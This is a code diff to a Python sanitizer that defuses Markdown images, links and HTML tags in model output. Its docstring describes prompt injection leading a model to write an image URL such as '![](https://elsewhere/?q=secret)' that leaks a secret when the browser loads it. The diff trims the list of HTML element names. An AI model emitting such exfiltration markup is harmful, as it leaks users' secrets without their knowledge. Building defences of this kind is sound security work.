@@ -3,9 +3,9 @@
 A document can talk a model into writing ``![](https://elsewhere/?q=secret)``, which a browser fetches without a click.
 Images, links and HTML tags lose the characters that make them work, and stay readable: ``![a](b)`` becomes ``[a]
 (b)`` and ``<img src=x>`` becomes ``< img src=x>``. What stands for a word of the reader's, as in ``npm run <stage>``,
-is no element of HTML and stays, so that a command can be copied. Code is left as it is where every reading of
-Markdown agrees that it is code: in fences that begin at the margin, and in code spans that close on their line. A
-bare address stays, since it takes a click.
+is no element of HTML that could do anything and stays, so that a command can be copied. Code is left as it is where
+every reading of Markdown agrees that it is code: in fences that begin at the margin, and in code spans that close on
+their line. A bare address stays, since it takes a click.
 """
 
 from __future__ import annotations
@@ -17,15 +17,16 @@ from pipelines.query.data_lines import visible
 _FENCE = re.compile(r"(`{3,}|~{3,})[^`\n]*$")
 _TICKS = re.compile(r"`+")
 _ELEMENTS = (
-    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blockquote body br "
-    "button canvas caption center cite code col colgroup data datalist dd del details dfn dialog dir div dl dt "
-    "element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head "
-    "header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map "
-    "mark marquee math menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option output "
-    "p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select slot "
-    "small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time "
-    "title tr track tt u ul use var video wbr xml xmp"
+    "a abbr acronym applet area article aside audio b base basefont bdi bdo bgsound big blockquote body br button "
+    "canvas caption center cite code col colgroup datalist dd del details dfn dialog div dl dt element em embed "
+    "fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr "
+    "html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math "
+    "menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option p param picture "
+    "plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select slot small span strike "
+    "strong style sub summary sup svg table tbody td template textarea tfoot th thead title tr track tt u ul use "
+    "video wbr xml xmp"
 )
+"""But for a few that do nothing without attributes and are what words to be filled in are called: ``<dir>``."""
 _STANDS_FOR = rf"(?!(?:{'|'.join(_ELEMENTS.split())})(?![\w.|-]))[a-z][\w.|-]{{0,40}}(?:,? [\w.|-]{{1,40}}){{0,4}}>"
 """What follows the ``<`` of a word to be filled in: without attributes, an element that is unknown does nothing."""
 _LIVE = re.compile(rf"!(?=\[)|(?<=\])(?=\()|(?<=<)(?=[A-Za-z/!?])(?!{_STANDS_FOR})", re.IGNORECASE)
